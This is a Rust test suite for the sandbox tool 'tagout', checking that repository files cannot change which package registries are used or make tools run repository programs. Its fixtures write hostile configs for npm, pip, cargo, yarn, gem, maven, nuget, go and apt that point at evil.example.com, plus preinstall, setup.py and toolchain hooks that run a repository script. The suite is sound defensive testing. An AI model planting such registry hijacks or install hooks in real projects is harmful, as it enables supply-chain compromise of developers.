//! `network.registries` with the real tools: what the user configured is found, and what a repository says is not asked.

#![expect(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "what fails here fails the test, and the place tells what it was"
)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

/// Levels that every case must hold at.
const LEVELS: [&str; 2] = ["b", "c"];

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Whether a program is there; a skip is printed, and fails where everything must run.
fn has(program: &str) -> bool {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .env("PATH", path())
        .output()
        .unwrap()
        .status
        .success();
    if !found {
        println!("skipped: {program} is not installed");
        assert!(
            std::env::var_os("TAGOUT_TEST_ALL").is_none() || program == "dotnet",
            "{program} is missing"
        );
    }
    found
}

/// Programs that the tests brought stand first.
fn path() -> String {
    let tools = Path::new(TOOLS);
    let brought = [tools.join("npm/node_modules/.bin"), tools.join("venv/bin")];
    let brought = brought.map(|folder| folder.display().to_string());
    format!("{}:{}", brought.join(":"), std::env::var("PATH").unwrap())
}

const TOOLS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/test-tools");

/// `tagout sandbox` in a repository, with a home of the test's own; toolchains are found by their own variables.
fn sandbox(level: &str, home: &Path, repository: &Path, tools: &str, script: &str) -> Output {
    let policy = home.join("policy.yml");
    let allow = "[{host: mirror.internal, ports: [8443], private: true, paths: [/none]}]";
    let yaml = format!("version: 1\nnetwork:\n  allow: {allow}\n  registries: [{tools}]\n");
    fs::write(&policy, yaml).unwrap();
    let real = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());
    let mut command = Command::new(env!("CARGO_BIN_EXE_tagout"));
    command
        .env_clear()
        .env("PATH", path())
        .env("RUNNER_TOOL_CACHE", TOOLS)
        .env("HOME", home)
        .current_dir(repository)
        .args(["sandbox", "--level", level, "--policy"])
        .arg(policy);
    for (variable, folder) in [
        ("RUSTUP_HOME", ".rustup"),
        ("PYENV_ROOT", ".pyenv"),
        ("NVM_DIR", ".nvm"),
    ] {
        let named = std::env::var_os(variable).map(std::path::PathBuf::from);
        let folder = named.unwrap_or_else(|| real.join(folder));
        if folder.is_dir() {
            command.env(variable, folder);
        }
    }
    // Cargo's programs lie in its home; its configuration is looked for below HOME.
    command.env("CARGO_HOME", real.join(".cargo"));
    command.args(["--", "sh", "-c", script]).output().unwrap()
}

/// Files of tools that would read them in the folder where they stand, or not at all.
const LURES: [(&str, &str); 7] = [
    (
        "pnpm-workspace.yaml",
        "packages: [.]\nregistry: https://evil.example.com/\n",
    ),
    (
        "Gemfile",
        "source 'https://evil.example.com'\nsystem('./run.sh')\n",
    ),
    (".gemrc", ":sources:\n- https://evil.example.com/\n"),
    ("go.mod", "module evil\ntoolchain evil\n"),
    ("go.env", "GOPROXY=https://evil.example.com\n"),
    ("apt.conf", "Dir::Etc::sourcelist \"./evil.list\";\n"),
    ("evil.list", "deb https://evil.example.com/ a b\n"),
];

/// A repository that sets whatever a tool reads from a project: another registry, another program to run.
fn hostile(folder: &Path, marker: &Path) {
    let write = |name: &str, text: &str| {
        let path = folder.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    for (name, text) in LURES {
        write(name, text);
    }
    let run = format!("#!/bin/sh\ntouch {}\n", marker.display());
    write("run.sh", &run);
    write("toolchain/bin/cargo", &run);
    write("toolchain/bin/rustc", &run);
    for name in ["run.sh", "toolchain/bin/cargo", "toolchain/bin/rustc"] {
        fs::set_permissions(folder.join(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = folder.display();
    write(
        "rust-toolchain.toml",
        &format!("[toolchain]\npath = \"{path}/toolchain\"\n"),
    );
    write(
        ".cargo/config.toml",
        &format!(
            "[build]\nrustc = \"{path}/run.sh\"\n[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+https://evil.example.com/\"\n"
        ),
    );
    write(".npmrc", "registry=https://evil.example.com/\n");
    write(
        "package.json",
        "{\"scripts\": {\"preinstall\": \"./run.sh\"}}",
    );
    write(
        ".yarnrc.yml",
        "yarnPath: ./run.sh\nnpmRegistryServer: https://evil.example.com/\n",
    );
    write(
        ".yarnrc",
        "registry \"https://evil.example.com/\"\nyarn-path \"./run.sh\"\n",
    );
    write(
        "pip.conf",
        "[global]\nindex-url = https://evil.example.com/simple\n",
    );
    write("setup.py", "import os; os.system('./run.sh')\n");
    write(
        "uv.toml",
        "index-url = \"https://evil.example.com/simple\"\n",
    );
    write(".mvn/maven.config", "-s\nsettings.xml\n");
    write(".mvn/extensions.xml", "<extensions/>");
    write(
        "settings.xml",
        "<settings><mirrors><mirror><id>e</id><mirrorOf>*</mirrorOf><url>https://evil.example.com/</url></mirror></mirrors></settings>",
    );
    write("pom.xml", "<project/>");
    write(
        ".bundle/config",
        "BUNDLE_MIRROR__ALL: https://evil.example.com/\n",
    );
    write(
        "nuget.config",
        "<configuration><packageSources><add key=\"e\" value=\"https://evil.example.com/\"/></packageSources></configuration>",
    );
}

/// What the tools say where they stand in the repository itself: the control, without which nothing was shown.
fn believed(folder: &Path, program: &str, args: &[&str]) -> bool {
    let output = Command::new(program)
        .args(args)
        .env("PATH", path())
        .current_dir(folder)
        .output()
        .unwrap();
    text(&output.stdout).contains("evil.example.com")
        || text(&output.stderr).contains("evil.example.com")
}

#[test]
fn repository_has_no_say_in_what_is_asked() {
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let marker = home.path().join("ran");
    hostile(repository.path(), &marker);
    for program in ["npm", "pnpm"] {
        if has(program) {
            assert!(
                believed(repository.path(), program, &["config", "get", "registry"]),
                "the control of {program}"
            );
        }
    }
    if has("yarn") {
        believed(repository.path(), "yarn", &["--version"]);
        assert!(marker.exists(), "the control of yarn");
        fs::remove_file(&marker).unwrap();
    }
    if has("cargo") {
        // rustup runs the repository's own program here.
        Command::new("cargo")
            .arg("--version")
            .current_dir(repository.path())
            .output()
            .unwrap();
        if marker.exists() {
            fs::remove_file(&marker).unwrap();
        } else {
            println!("skipped: cargo is not run by rustup here, so a toolchain file is no danger");
        }
    }
    for tool in [
        "cargo", "npm", "pip", "yarn", "pnpm", "uv", "go", "maven", "rubygems", "nuget", "apt",
    ] {
        let program = match tool {
            "maven" => "mvn",
            "rubygems" => "gem",
            "nuget" => "dotnet",
            "apt" => "apt-get",
            other => other,
        };
        if !has(program) {
            continue;
        }
        for level in LEVELS {
            let output = sandbox(level, home.path(), repository.path(), tool, "true");
            let told = text(&output.stderr);
            if tool == "apt" && told.contains("registry-unfit") && told.contains("it is not https")
            {
                // What distributions come with; its own case below has another.
                assert_eq!(output.status.code(), Some(125), "{level} {tool}: {told}");
                assert!(!told.contains("evil"), "{level} {tool}: {told}");
                continue;
            }
            assert_eq!(output.status.code(), Some(0), "{level} {tool}: {told}");
            assert!(
                told.contains(&format!("tagout: registries: {tool} reads ")),
                "{level} {tool}: {told}"
            );
            assert!(!told.contains("reads no host"), "{level} {tool}: {told}");
            assert!(!told.contains("evil"), "{level} {tool}: {told}");
            assert!(
                !marker.exists(),
                "{level}: {tool} ran the repository's program"
            );
        }
    }
}

#[test]
fn configured_mirror_is_found_and_its_password_goes_nowhere() {
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = home.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    write(
        ".npmrc",
        "registry=https://mirror.internal:8443/npm/\n//mirror.internal:8443/npm/:_authToken=canary\n@own:registry=https://own.example.com/\n",
    );
    write(
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://u:canary@mirror.internal:8443/pip/simple\nextra-index-url = https://more.example.com/simple\n",
    );
    let script = "cat ~/.npmrc ~/.config/pip/pip.conf; env; npm config get registry; grep -rs canary / --include=.npmrc --include=pip.conf";
    for (tool, hosts) in [
        ("npm", ["mirror.internal:8443", "own.example.com"]),
        ("pip", ["mirror.internal:8443", "more.example.com"]),
    ] {
        if !has(tool) {
            continue;
        }
        for level in LEVELS {
            let output = sandbox(level, home.path(), repository.path(), tool, script);
            let told = text(&output.stderr);
            let line = told
                .lines()
                .find(|line| line.starts_with(&format!("tagout: registries: {tool} reads ")))
                .unwrap_or_else(|| panic!("{level} {tool}: {told}"));
            assert!(hosts.iter().all(|host| line.contains(host)), "{line}");
            let shown = text(&output.stdout);
            assert!(
                !shown.contains("canary") && !told.contains("canary"),
                "{level} {tool}: {shown} {told}"
            );
            assert!(
                shown.contains("https://mirror.internal:8443/"),
                "{level} {tool}: the tools inside use it too: {shown}"
            );
        }
    }
}

#[test]
fn answer_that_makes_no_rule_ends_the_run_with_the_mend() {
    if !has("npm") {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let marker = repository.path().join("ran");
    for (registry, why) in [
        ("http://plain.example.com/", "it is not https"),
        ("https://unnamed.internal/", "not a public name"),
        ("https://127.0.0.1/", "not a public name"),
    ] {
        fs::write(home.path().join(".npmrc"), format!("registry={registry}\n")).unwrap();
        let output = sandbox("b", home.path(), repository.path(), "npm", "touch ran");
        let told = text(&output.stderr);
        assert_eq!(output.status.code(), Some(125), "{told}");
        assert!(
            told.contains("registry-unfit") && told.contains(why),
            "{told}"
        );
        assert!(
            told.contains("policy.yml:4") && told.contains("network.allow"),
            "{told}"
        );
        assert!(!marker.exists());
    }
}

#[test]
fn configuration_in_the_repository_is_not_taken_even_where_a_variable_names_it() {
    if !has("npm") {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    fs::write(
        repository.path().join("evil.npmrc"),
        "registry=https://evil.example.com/\n",
    )
    .unwrap();
    let policy = home.path().join("p.yml");
    fs::write(&policy, "version: 1\nnetwork: {registries: [npm]}\n").unwrap();
    let ask = |npmrc: &Path| {
        let output = Command::new(env!("CARGO_BIN_EXE_tagout"))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("HOME", home.path())
            .env("NPM_CONFIG_USERCONFIG", npmrc)
            .current_dir(repository.path())
            .args(["sandbox", "--policy"])
            .arg(&policy)
            .args(["--", "true"])
            .output()
            .unwrap();
        text(&output.stderr)
    };
    let own = home.path().join("own.npmrc");
    fs::write(&own, "registry=https://own.example.com/\n").unwrap();
    assert!(
        ask(&own).contains("npm reads own.example.com"),
        "a file elsewhere is the user's"
    );
    let told = ask(&repository.path().join("evil.npmrc"));
    assert!(
        told.contains("npm reads ") && !told.contains("evil"),
        "{told}"
    );
    let link = home.path().join("link.npmrc");
    std::os::unix::fs::symlink(repository.path().join("evil.npmrc"), &link).unwrap();
    assert!(!ask(&link).contains("evil"));
}

/// What the user configured for each tool, what it is heard to read, and how the tool inside says that it reads the same.
const MIRRORS: [(&str, &str, &str, &str, &str); 6] = [
    (
        "yarn",
        "yarn",
        ".yarnrc",
        "registry \"https://mirror.internal:8443/npm/\"\n",
        "yarn config get registry",
    ),
    (
        "pnpm",
        "pnpm",
        ".config/pnpm/rc",
        "registry=https://mirror.internal:8443/npm/\n",
        "pnpm config list | grep ^registry",
    ),
    (
        "uv",
        "uv",
        ".config/uv/uv.toml",
        "index-url = \"https://u:canary@mirror.internal:8443/simple\"\n",
        "echo x > $TMPDIR/r.in; uv pip compile --no-cache --offline -v $TMPDIR/r.in; cat ~/.config/uv/uv.toml",
    ),
    (
        "go",
        "go",
        ".config/go/env",
        "GOPROXY=https://mirror.internal:8443/go\nGOSUMDB=off\n",
        "go env GOPROXY GOSUMDB",
    ),
    (
        "maven",
        "mvn",
        ".m2/settings.xml",
        "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://mirror.internal:8443/m2</url></mirror></mirrors></settings>",
        "cd $TMPDIR; printf '<project><modelVersion>4.0.0</modelVersion><parent><groupId>a</groupId><artifactId>b</artifactId><version>1</version></parent><artifactId>a</artifactId></project>' > pom.xml; mvn -B -e validate",
    ),
    (
        "rubygems",
        "gem",
        ".gemrc",
        ":sources:\n- https://mirror.internal:8443/gems/\n",
        "gem sources --list",
    ),
];

#[test]
fn mirror_of_each_tool_is_heard_and_used_inside() {
    for (tool, program, file, configuration, ask) in MIRRORS {
        if !has(program) {
            continue;
        }
        let home = tempfile::tempdir().unwrap();
        let repository = tempfile::tempdir().unwrap();
        let file = home.path().join(file);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, configuration).unwrap();
        for level in LEVELS {
            let output = sandbox(level, home.path(), repository.path(), tool, ask);
            let (out, told) = (text(&output.stdout), text(&output.stderr));
            let heard = format!("tagout: registries: {tool} reads mirror.internal:8443");
            let line = told.lines().find(|line| line.starts_with(&heard));
            assert!(line.is_some(), "{level} {tool}: {told}");
            let all = format!("{out}{}", told.replace(&heard, ""));
            assert!(
                all.contains("https://mirror.internal:8443/"),
                "{level} {tool}: the tool inside uses it too: {all}"
            );
            assert!(!all.contains("canary"), "{level} {tool}: {all}");
        }
    }
}

/// The later line of Yarn asks for its registry by another name; its own release stands in `target/test-tools`.
#[test]
fn later_yarn_is_asked_too() {
    let program = Path::new(TOOLS).join("berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js");
    if !program.is_file() {
        println!("skipped: @yarnpkg/cli-dist is not in target/test-tools");
        assert!(
            std::env::var_os("TAGOUT_TEST_ALL").is_none(),
            "it is missing"
        );
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let marker = home.path().join("ran");
    hostile(repository.path(), &marker);
    let yarn = home.path().join("bin/yarn");
    fs::create_dir(home.path().join("bin")).unwrap();
    let script = format!("#!/bin/sh\nexec node {} \"$@\"\n", program.display());
    fs::write(&yarn, script).unwrap();
    fs::set_permissions(&yarn, fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(
        home.path().join(".yarnrc.yml"),
        "npmRegistryServer: \"https://mirror.internal:8443/npm\"\n",
    )
    .unwrap();
    for level in LEVELS {
        let policy = home.path().join("policy.yml");
        let allow = "[{host: mirror.internal, ports: [8443], private: true, paths: [/none]}]";
        fs::write(
            &policy,
            format!("version: 1\nnetwork:\n  allow: {allow}\n  registries: [yarn]\n"),
        )
        .unwrap();
        // A home of Bun's stands for one of Yarn's, which has none.
        let output = Command::new(env!("CARGO_BIN_EXE_tagout"))
            .env_clear()
            .env(
                "PATH",
                format!("{}:{}", home.path().join("bin").display(), path()),
            )
            .env("RUNNER_TOOL_CACHE", TOOLS)
            .env("BUN_INSTALL", home.path())
            .env("HOME", home.path())
            .current_dir(repository.path())
            .args(["sandbox", "--copy", "--level", level, "--policy"])
            .arg(&policy)
            .args([
                "--",
                "sh",
                "-c",
                "cd ~ && yarn config get npmRegistryServer",
            ])
            .output()
            .unwrap();
        let (out, told) = (text(&output.stdout), text(&output.stderr));
        assert!(
            told.contains("tagout: registries: yarn reads mirror.internal:8443"),
            "{level}: {told}"
        );
        assert!(
            out.contains("https://mirror.internal:8443/npm"),
            "{level}: {out} {told}"
        );
        assert!(
            !told.contains("evil") && !marker.exists(),
            "{level}: {told}"
        );
    }
}

#[test]
fn sources_of_apt_over_https_are_heard_with_their_passwords_left_out() {
    // The system's sources are replaced in a mount namespace of the test's own.
    if !rustix::process::geteuid().is_root() || !has("apt-get") {
        println!("skipped: only root can show this program other sources");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let sources = folder.path().join("sources");
    fs::create_dir(&sources).unwrap();
    fs::write(
        sources.join("a.list"),
        "deb https://u:canary@deb.example.com/debian stable main\ndeb https://flat.example.com/x ./\n",
    )
    .unwrap();
    let policy = folder.path().join("policy.yml");
    fs::write(&policy, "version: 1\nnetwork: {registries: [apt]}\n").unwrap();
    for level in LEVELS {
        let script = format!(
            "mount --bind {0} /etc/apt/sources.list.d && {{ [ ! -f /etc/apt/sources.list ] || mount --bind /dev/null /etc/apt/sources.list; }} && \
             exec {1} sandbox --level {level} --policy {2} -- true",
            sources.display(),
            env!("CARGO_BIN_EXE_tagout"),
            policy.display()
        );
        let output = Command::new("unshare")
            .args(["--mount", "sh", "-c", &script])
            .env_clear()
            .env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin")
            .env("HOME", folder.path())
            .current_dir(repository.path())
            .output()
            .unwrap();
        let told = text(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{level}: {told}");
        let line = told
            .lines()
            .find(|line| line.starts_with("tagout: registries: apt reads "))
            .unwrap_or_else(|| panic!("{level}: {told}"));
        let hosts = ["deb.example.com", "flat.example.com"];
        assert!(hosts.iter().all(|host| line.contains(host)), "{line}");
        assert!(!told.contains("canary"), "{level}: {told}");
    }
}
